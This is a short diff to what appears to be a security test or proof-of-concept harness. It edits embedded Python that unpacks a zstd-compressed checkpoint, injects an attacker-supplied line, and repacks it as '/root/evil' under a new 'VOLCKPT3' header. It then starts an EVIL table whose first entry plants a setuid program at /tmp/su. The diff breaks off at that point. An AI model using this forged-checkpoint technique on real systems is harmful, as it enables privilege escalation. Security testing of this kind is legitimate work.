@@ -68,16 +68,16 @@ raw = open("/root/stream", "rb").read()[8:]
 out = ctypes.create_string_buffer(1 << 24)
 n = z.ZSTD_decompress(out, ctypes.c_size_t(len(out)), raw,
                       ctypes.c_size_t(len(raw)))
-data, texts = out.raw[:n], []
+data, texts = out.raw[8:n], []
 for _ in range(2):
     size, = struct.unpack(">I", data[:4])
     texts.append(data[4:4 + size])
     data = data[4 + size:]
 texts[1] += sys.argv[1].encode() + b"\\n"
-whole = b"".join(struct.pack(">I", len(t)) + t for t in texts) + data
+whole = bytes(8) + b"".join(struct.pack(">I", len(t)) + t for t in texts) + data
 n = z.ZSTD_compress(out, ctypes.c_size_t(len(out)), whole,
                     ctypes.c_size_t(len(whole)), 1)
-open("/root/evil", "wb").write(b"VOLCKPT2" + out.raw[:n])
+open("/root/evil", "wb").write(b"VOLCKPT3" + out.raw[:n])
 """
 EVIL = {
     "a setuid program": ("entry=copy closed 2541 0 5 0 0 /tmp/su",
